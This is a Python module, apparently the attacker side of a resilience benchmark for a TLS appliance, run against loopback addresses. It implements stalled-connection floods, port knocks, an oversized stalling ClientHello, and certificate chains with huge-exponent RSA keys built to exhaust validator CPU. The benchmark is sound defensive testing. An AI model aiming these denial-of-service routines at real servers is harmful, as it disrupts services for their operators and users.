"""The attacker's side of `pinata bench abuse`, in its own process.

Each scenario runs for a given time from many loopback source addresses
(127.0.0.0/8 routes to us whole on Linux), at bounded rates and with a
bounded number of sockets, and prints one JSON line of what it did:

- `stall`: connections to every port that never send a byte, replaced as
  soon as the appliance closes them;
- `knocks`: knocks on the connect-back port, 50 a second from one address
  and as many again from its neighbours;
- `huge_hello`: connections whose ClientHello announces 65,000 bytes and
  sends 20 KiB of it, then stalls;
- `expensive_chains`: client certificates behind 40 same-name CA
  certificates whose RSA keys have public exponents as long as their moduli
  (each verification costs about a hundred ordinary ones), issued with the
  toy CA key; 10 handshakes a second;
- `rest`: no attack, the honest clients' baseline;
- `stuck_log` is the parent's business (it stops reading the log); the
  attacker stalls connections meanwhile.
"""

from __future__ import annotations

import contextlib
import json
import math
import secrets
import selectors
import socket
import ssl
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from bait_ca import forge
from bait_ca.issued import Issued
from bait_ca.keys import KeyType, private_key_pem
from pinata.bench.procs import raise_open_file_limit

SCENARIOS = ("rest", "stall", "knocks", "huge_hello", "expensive_chains", "stuck_log")
# Attackers' networks: 127.0.N.0/24 for N below this; the honest clients use 127.1.0.0/16.
ATTACK_NETWORKS = 32
ADDRESSES_PER_NETWORK = 32
MAX_SOCKETS = 2000
# A handshake record announcing a ClientHello of 65,000 bytes (RFC 8446 §5.1, §4).
HUGE_HELLO_HEAD = bytes.fromhex("1603034000") + b"\x01" + (65000).to_bytes(3, "big")
HUGE_HELLO_SENT = 20 * 1024
EXPENSIVE_CHAIN_LENGTH = 40
RSA_KEY_TYPES: dict[int, KeyType] = {2048: "rsa2048", 3072: "rsa3072", 4096: "rsa4096"}


def attacker_address(i: int, networks: int = ATTACK_NETWORKS) -> str:
    """The i-th attacking source address, spread over `networks` /24s."""
    return f"127.0.{i % networks}.{1 + (i // networks) % ADDRESSES_PER_NETWORK}"


# --- the expensive chain ---------------------------------------------------------------


def huge_exponent_key(bits: int) -> rsa.RSAPrivateKey:
    """An RSA key whose public exponent is as long as its modulus (odd, coprime to
    phi): valid by RFC 8017, and each signature check costs a full exponentiation."""
    base = rsa.generate_private_key(65537, bits).private_numbers()
    p, q = base.p, base.q
    phi = (p - 1) * (q - 1)
    while True:
        e = secrets.randbits(bits - 1) | 1 | (1 << (bits - 2))
        if math.gcd(e, phi) == 1:
            break
    d = pow(e, -1, phi)
    numbers = rsa.RSAPrivateNumbers(p, q, d, d % (p - 1), d % (q - 1), pow(q, -1, p),
                                    rsa.RSAPublicNumbers(e, p * q))
    return numbers.private_key(unsafe_skip_rsa_key_validation=True)


def expensive_chain(anchor: Issued, directory: Path, n: int = EXPENSIVE_CHAIN_LENGTH,
                    bits: int = 3072) -> tuple[str, str]:
    """Write a client chain (leaf, then `n` same-name CAs under `anchor`, each with a
    huge-exponent key) and the leaf's key; returns (chain file, key file).

    The leaf's signature matches none of the CAs, so a validator tries every
    candidate issuer (up to its bound) before refusing.
    """
    key = huge_exponent_key(bits)
    name = "CN=Expensive Intermediate"
    cas = [forge.build_certificate(subject=name, issuer=anchor, private_key=key, ca=True,
                                   key_usage=("key_cert_sign",)) for _ in range(n)]
    stranger = forge.build_certificate(subject=name, key_type=RSA_KEY_TYPES[bits], ca=True,
                                       key_usage=("key_cert_sign",))
    leaf = forge.build_certificate(subject="CN=expensive client", issuer=stranger,
                                   key_type="p256", **forge.role_profile("client"))
    chain = directory / "expensive-chain.pem"
    chain.write_bytes(b"".join(c.certificate.public_bytes(serialization.Encoding.PEM)
                               for c in (leaf, *cas)))
    leaf_key = directory / "expensive-chain.key"
    leaf_key.write_bytes(private_key_pem(leaf.private_key))
    return str(chain), str(leaf_key)


# --- the attacks ----------------------------------------------------------------------


@dataclass
class Tally:
    opened: int = 0
    refused_at_once: int = 0
    failed_to_connect: int = 0
    handshakes: int = 0
    errors: dict[str, int] = field(default_factory=dict)

    def error(self, exc: BaseException) -> None:
        name = type(exc).__name__
        self.errors[name] = self.errors.get(name, 0) + 1


def _open(port: int, source: str) -> socket.socket | None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.bind((source, 0))
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", port))
    except OSError:
        sock.close()
        return None
    return sock


def _hold(ports: list[int], seconds: float, per_second: float, first: bytes,
          tally: Tally) -> None:
    """Keep up to MAX_SOCKETS connections open, replacing those the appliance closes."""
    held: dict[int, socket.socket] = {}
    i = 0
    started = time.monotonic()
    with selectors.DefaultSelector() as selector:
        while time.monotonic() - started < seconds:
            due = int((time.monotonic() - started) * per_second)
            while i < due and len(held) < MAX_SOCKETS:
                sock = _open(ports[i % len(ports)], attacker_address(i))
                i += 1
                if sock is None:
                    tally.failed_to_connect += 1
                    continue
                tally.opened += 1
                held[sock.fileno()] = sock
                selector.register(sock, selectors.EVENT_READ | (
                    selectors.EVENT_WRITE if first else 0))
            for key, events in selector.select(timeout=0.02):
                sock = held[key.fd]
                if events & selectors.EVENT_WRITE:
                    with contextlib.suppress(OSError):
                        sock.send(first)
                    selector.modify(sock, selectors.EVENT_READ)
                    continue
                try:
                    data = sock.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    tally.refused_at_once += 1
                    selector.unregister(sock)
                    del held[key.fd]
                    sock.close()
        for sock in held.values():
            sock.close()


def _knocks(port: int, seconds: float, per_second: float, tally: Tally) -> None:
    started = time.monotonic()
    i = 0
    while time.monotonic() - started < seconds:
        # Half from one address (the 50 a second), half from its neighbours.
        source = "127.0.0.9" if i % 2 == 0 else attacker_address(i, networks=1)
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2,
                                          source_address=(source, 0)):
                tally.opened += 1
        except OSError as exc:
            tally.error(exc)
        i += 1
        time.sleep(max(0.0, started + i / per_second - time.monotonic()))


def _expensive(port: int, seconds: float, per_second: float, chain: tuple[str, str],
               tally: Tally) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(*chain)
    lock = threading.Lock()

    def one(source: str) -> None:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=10,
                                          source_address=(source, 0)) as raw, \
                    context.wrap_socket(raw) as tls:
                tls.recv(1)
        except (OSError, ssl.SSLError) as exc:
            with lock:
                tally.error(exc)
        with lock:
            tally.handshakes += 1

    started = time.monotonic()
    threads: list[threading.Thread] = []
    i = 0
    while time.monotonic() - started < seconds:
        # One machine: one /24, many addresses in it.
        thread = threading.Thread(target=one, args=(attacker_address(i, networks=1),),
                                  daemon=True)
        thread.start()
        threads.append(thread)
        i += 1
        time.sleep(max(0.0, started + i / per_second - time.monotonic()))
    for thread in threads:
        thread.join(15)


def attack(scenario: str, ports: dict[str, int], seconds: float, scale: float,
           chain: tuple[str, str] | None) -> Tally:
    """Run `scenario` against `ports` for `seconds`; `scale` multiplies every rate."""
    raise_open_file_limit()
    tally = Tally()
    every = [ports[name] for name in ("tls_server", "tls_client", "http", "https")]
    if scenario == "rest":
        time.sleep(seconds)
    elif scenario in ("stall", "stuck_log"):
        _hold(every, seconds, 800 * scale, b"", tally)
    elif scenario == "knocks":
        _knocks(ports["connect_back"], seconds, 100 * scale, tally)
    elif scenario == "huge_hello":
        hello = HUGE_HELLO_HEAD + b"\x03\x03" + b"\x00" * (HUGE_HELLO_SENT - 2)
        _hold([ports["tls_server"], ports["https"]], seconds, 400 * scale, hello, tally)
    elif scenario == "expensive_chains":
        assert chain is not None
        _expensive(ports["tls_server"], seconds, 10 * scale, chain, tally)
    return tally


def main(argv: list[str]) -> None:
    """`abuse-attacker SCENARIO SECONDS SCALE PORTS_JSON [CHAIN KEY]`: attack, print a tally."""
    scenario, seconds, scale, ports_json = argv[:4]
    chain = (argv[4], argv[5]) if len(argv) >= 6 else None
    tally = attack(scenario, json.loads(ports_json), float(seconds), float(scale), chain)
    sys.stdout.write(json.dumps({"tally": vars(tally)}) + "\n")
    sys.stdout.flush()
